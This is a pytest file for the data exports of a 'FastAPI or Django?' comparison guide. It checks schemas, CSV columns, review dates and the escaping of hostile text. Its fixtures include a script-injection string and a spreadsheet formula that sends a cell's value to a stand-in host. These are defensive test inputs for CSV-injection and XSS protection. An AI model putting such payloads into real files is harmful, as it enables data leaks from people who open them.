"""The export files: each parses with an ordinary tool, holds every criterion and framework, names
its source and review date, survives hostile data text (byte-identical between builds: test_reproducible.py)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from jsonschema import Draft202012Validator

from helpers import shown
from guide.publish import exports
from guide.publish.addresses import SiteInfo
from guide.views import tables
from guide.views.tables import ComparisonField

SITE = SiteInfo(name="FastAPI or Django?", url="https://guide.example/", licence="CC BY 4.0")
# What the CSV adds after the comparison's own fields: where each row comes from.
PROVENANCE = ["criterion_url", "guide", "guide_url", "data_reviewed"]
NASTY = 'Pipe | <script>alert("x")</script> "quoted", comma\nsecond line \\| end'


@pytest.fixture(scope="module")
def nasty_guide(guide):
    """The real data with hostile text in one group, criterion, assessment and framework name."""
    group, criterion, framework = guide.groups[0], guide.groups[0].criteria[0], guide.frameworks[0]
    assessment = criterion.assessments[framework.id].model_copy(update={"verdict": NASTY, "detail": NASTY, "judgement": NASTY})
    criterion = criterion.model_copy(update={"title": NASTY, "assessments": {**criterion.assessments, framework.id: assessment}})
    group = group.model_copy(update={"title": NASTY, "criteria": [criterion, *group.criteria[1:]]})
    framework = framework.model_copy(update={"name": 'Fast|API "<b>"'})
    return guide.model_copy(update={"groups": [group, *guide.groups[1:]], "frameworks": [framework, *guide.frameworks[1:]]})


def table_cells(line: str) -> list[str]:
    """Cells of a GFM table row, splitting on pipes not escaped by an odd run of backslashes."""
    cells, current, backslashes = [], "", 0
    for char in line.strip()[1:-1] if line.strip().endswith("|") else line.strip()[1:]:
        if char == "|" and backslashes % 2 == 0:
            cells.append(current)
            current = ""
        else:
            current += char
        backslashes = backslashes + 1 if char == "\\" else 0
    return cells + [current]


def markdown_rows(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.startswith("|")]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- the files in a real build -------------------------------------------------------------


@pytest.fixture(scope="module")
def export_dir(built_site) -> Path:
    return built_site / "exports"


def test_json_export_validates_against_its_schema_and_holds_everything(export_dir, guide):
    data = json.loads((export_dir / "guide.json").read_text(encoding="utf-8"))
    schema = json.loads((export_dir / "guide.schema.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    errors = sorted(Draft202012Validator(schema).iter_errors(data), key=lambda e: list(e.path))
    assert errors == [], [f"{list(e.path)}: {e.message}" for e in errors[:5]]
    assert data["schema_version"] == exports.SCHEMA_VERSION
    assert data["source"]["name"] and data["source"]["reviewed"] == guide.reviewed.isoformat()
    assert [f["id"] for f in data["frameworks"]] == [f.id for f in guide.frameworks]
    criteria = [c for g in data["groups"] for c in g["criteria"]]
    assert [c["id"] for c in criteria] == [c.id for c in guide.criteria]
    for criterion in criteria:
        assert set(criterion["assessments"]) == {f.id for f in guide.frameworks}
        assert all(a["verdict"] and a["sources"] for a in criterion["assessments"].values())
    assert data["decision"]["start"] == guide.decision.start
    assert len(data["decision"]["questions"]) == len(guide.decision.questions)
    assert len(data["claims"]) == len(guide.claims)


def test_the_schema_rejects_a_broken_export(export_dir):
    data = json.loads((export_dir / "guide.json").read_text(encoding="utf-8"))
    schema = json.loads((export_dir / "guide.schema.json").read_text(encoding="utf-8"))
    next(iter(data["groups"][0]["criteria"][0]["assessments"].values()))["rating"] = "great"
    del data["schema_version"]
    assert len(list(Draft202012Validator(schema).iter_errors(data))) == 2


def test_csv_export_has_one_row_per_criterion_and_framework(export_dir, guide):
    raw = (export_dir / "comparison.csv").read_bytes()
    text = raw.decode("utf-8")
    assert text.endswith("\r\n") and not text.startswith("\ufeff")
    rows = csv_rows(text)
    assert list(rows[0]) == [field.key for field in tables.COMPARISON_FIELDS] + PROVENANCE
    assert len(rows) == len(guide.criteria) * len(guide.frameworks)
    assert {(r["criterion_id"], r["framework_id"]) for r in rows} == {
        (c.id, f.id) for c in guide.criteria for f in guide.frameworks
    }
    assert {r["data_reviewed"] for r in rows} == {guide.reviewed.isoformat()}
    assert {r["guide"] for r in rows} == {"FastAPI or Django?"}
    assert all(r["rating"] in {"strong", "good", "fair", "weak"} and r["sources"] for r in rows)


def test_the_csv_and_the_wide_tables_head_the_same_fields(export_dir, built_site, guide):
    """The CSV is the comparison in long format: its `criterion` field is what the tables' row
    headers show under the Criterion heading, and its `framework` and `framework_version` fields
    name the column that shows each verdict (the site's tables by name, the HTML export with the
    version, the Markdown export after a Group column)."""
    rows = csv_rows((export_dir / "comparison.csv").read_text(encoding="utf-8"))
    html = BeautifulSoup((export_dir / "comparison.html").read_text(encoding="utf-8"), "html.parser")
    headings = [th.get_text(" ", strip=True) for th in html.select("thead th")]
    assert headings[0] == tables.CRITERION.heading
    verdicts = {}
    for tr in html.select("tbody tr"):
        if tr.find("td"):
            for heading, td in zip(headings[1:], tr.find_all("td"), strict=True):
                verdicts[" ".join(tr.th.get_text().split()), heading] = " ".join(td.get_text().split())
    assert len(verdicts) == len(rows)
    for row in rows:
        shown_verdict = verdicts[shown(row["criterion"]), f"{row['framework']} {row['framework_version']}"]
        assert shown_verdict.endswith(shown(row["verdict"])), row["criterion_id"]

    full = BeautifulSoup((built_site / "comparison" / "index.html").read_text(encoding="utf-8"), "html.parser")
    site_headings = [th.get_text(" ", strip=True) for th in full.select(".guide-comparison--full thead th")]
    frameworks = list(dict.fromkeys(row["framework"] for row in rows))
    assert site_headings == [tables.CRITERION.heading, *frameworks]
    markdown_head = table_cells(markdown_rows((export_dir / "comparison.md").read_text(encoding="utf-8"))[0])
    assert [cell.strip() for cell in markdown_head] == [tables.GROUP.heading, tables.CRITERION.heading, *frameworks]


def test_the_csv_takes_its_fields_from_the_column_definition(guide, monkeypatch):
    """A field added to the one column definition, or taken out of it, is a CSV column added or
    gone, in its place; a new field's text is neutralised like every other."""
    added = ComparisonField("glance", lambda cell: f"=glance({cell.criterion.glance})")
    fields = [field for field in tables.COMPARISON_FIELDS if field.key != "measures"]
    fields.insert(fields.index(tables.CRITERION) + 1, added)
    monkeypatch.setattr(tables, "COMPARISON_FIELDS", tuple(fields))
    rows = csv_rows(exports.comparison_csv(guide, SITE))
    assert list(rows[0]) == [field.key for field in fields] + PROVENANCE
    assert list(rows[0]).index("glance") == list(rows[0]).index("criterion") + 1 and "measures" not in rows[0]
    glance = {c.id: c.glance for c in guide.criteria}
    assert all(row["glance"] == f"'=glance({glance[row['criterion_id']]})" for row in rows)


def test_markdown_export_is_one_table_with_equal_columns(export_dir, guide):
    text = (export_dir / "comparison.md").read_text(encoding="utf-8")
    rows = markdown_rows(text)
    width = 2 + len(guide.frameworks)
    assert [len(table_cells(row)) for row in rows] == [width] * len(rows)
    assert len(rows) == 2 + len(guide.criteria)
    assert re.fullmatch(r"\|( -+ \|)+", rows[1])
    for criterion in guide.criteria:
        assert f"/comparison/#{criterion.id})" in text
    assert "Data last reviewed on " + guide.reviewed.isoformat() in text


def test_html_export_is_a_plain_table_with_inline_styles(export_dir, guide):
    text = (export_dir / "comparison.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(text, "html.parser")
    assert soup.find("script") is None and soup.find("link") is None and soup.find("style") is None
    assert soup.select("[class]") == []
    assert len(soup.find_all("table")) == 1
    row_headers = [th.get_text(" ", strip=True) for th in soup.select('th[scope="row"]')]
    assert row_headers == [c.title for c in guide.criteria]
    assert len(soup.select("tbody tr")) == len(guide.criteria) + len(guide.groups)
    assert all(len(tr.find_all("td")) == len(guide.frameworks) for tr in soup.select("tbody tr") if tr.find("td"))
    assert "data last reviewed on " + guide.reviewed.isoformat() in soup.caption.get_text(" ").lower()


def test_the_build_writes_every_export(export_dir):
    """Beside precompressed copies; test_reproducible.py shows two builds give the same bytes."""
    originals = sorted(p.name for p in export_dir.iterdir() if not p.name.endswith((".gz", ".br")))
    assert originals == ["comparison.csv", "comparison.html", "comparison.md", "flowchart.svg", "guide.json", "guide.schema.json"]


def test_csv_keeps_hostile_text_exactly(nasty_guide):
    text = exports.comparison_csv(nasty_guide, SITE)
    rows = csv_rows(text)
    assert len(rows) == len(nasty_guide.criteria) * len(nasty_guide.frameworks)
    first = rows[0]
    assert first["criterion"] == first["group"] == first["verdict"] == first["detail"] == first["judgement"] == NASTY
    assert first["framework"] == 'Fast|API "<b>"'
    # Written back with RFC 4180 quoting of every cell and CRLF record ends, the parsed rows give the same text.
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text, newline="")))
    assert again.getvalue() == text


def test_markdown_escapes_hostile_text(nasty_guide):
    text = exports.comparison_markdown(nasty_guide, SITE)
    rows = markdown_rows(text)
    assert len(rows) == 2 + len(nasty_guide.criteria)  # the newline did not break a row
    assert {len(table_cells(row)) for row in rows} == {2 + len(nasty_guide.frameworks)}
    assert "<script>" not in text and "<b>" not in text
    assert "&lt;script&gt;" in text and r"Fast\|API" in text


def test_html_escapes_hostile_text(nasty_guide):
    text = exports.comparison_html(nasty_guide, SITE)
    assert "<script>" not in text and "<b>" not in text
    soup = BeautifulSoup(text, "html.parser")
    assert soup.find("script") is None
    first = soup.select_one('th[scope="row"]').get_text()
    assert first == " ".join(NASTY.split())
    assert 'Fast|API "<b>"' in soup.select("thead th")[1].get_text()


def test_json_round_trips_hostile_text_and_still_validates(nasty_guide):
    data = json.loads(exports.guide_json(nasty_guide, SITE))
    assessment = data["groups"][0]["criteria"][0]["assessments"][nasty_guide.frameworks[0].id]
    assert assessment["verdict"] == assessment["detail"] == NASTY
    schema = json.loads(exports.guide_json_schema(SITE))
    assert schema["$id"] == "https://guide.example/exports/guide.schema.json"
    Draft202012Validator(schema).validate(data)


def test_every_export_names_its_source_and_review_date(guide):
    for name, text in exports.exports(guide, SITE).items():
        if name == exports.SCHEMA_NAME:
            continue
        assert "https://guide.example/" in text, name
        assert guide.reviewed.isoformat() in text, name


def test_exports_are_deterministic_functions(guide):
    assert exports.exports(guide, SITE) == exports.exports(guide, SITE)


FORMULAS = {
    "verdict": '=HYPERLINK("https://example.invalid/?leak="&A1,"details")',
    "detail": "+1 more than the other",
    "judgement": "-2 points; an arrow ->",
    "title": "@SUM(A1:A9)",
    "measures": "\tstarts with a tab",
    "name": "\rstarts with a carriage return",
    "description": "\nstarts with a line feed",
}


def test_csv_cells_never_start_a_formula(guide):
    """OWASP's CSV-injection remedy: a cell a spreadsheet would run gets a leading single quote,
    every cell is in double quotes, and the text is otherwise unchanged."""
    group, criterion, framework = guide.groups[0], guide.groups[0].criteria[0], guide.frameworks[0]
    assessment = criterion.assessments[framework.id].model_copy(
        update={key: FORMULAS[key] for key in ("verdict", "detail", "judgement")})
    criterion = criterion.model_copy(update={
        "title": FORMULAS["title"], "measures": FORMULAS["measures"],
        "assessments": {**criterion.assessments, framework.id: assessment}})
    group = group.model_copy(update={"title": "a; =1+2", "criteria": [criterion, *group.criteria[1:]]})
    hostile = guide.model_copy(update={
        "groups": [group, *guide.groups[1:]],
        "frameworks": [framework.model_copy(update={"name": FORMULAS["name"]}), *guide.frameworks[1:]]})
    text = exports.comparison_csv(hostile, SITE)
    first = csv_rows(text)[0]
    for column, value in [("verdict", FORMULAS["verdict"]), ("detail", FORMULAS["detail"]),
                          ("judgement", FORMULAS["judgement"]), ("criterion", FORMULAS["title"]),
                          ("measures", FORMULAS["measures"]), ("framework", FORMULAS["name"])]:
        assert first[column] == "'" + value, column
    assert first["group"] == "a; =1+2"  # a formula after a separator stays inside its quoted cell
    assert first["score"] == str(criterion.assessments[framework.id].rating.score)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in row), row
    assert all(line.startswith('"') for line in text.split("\r\n") if line), "every record starts with a quoted cell"


def test_csv_cell_leaves_numbers_and_ordinary_text_alone():
    assert exports.csv_cell(3) == 3
    assert exports.csv_cell("Among the fastest") == "Among the fastest"
    assert exports.csv_cell("p99 = 50 ms") == "p99 = 50 ms"
    assert exports.csv_cell("-") == "'-"
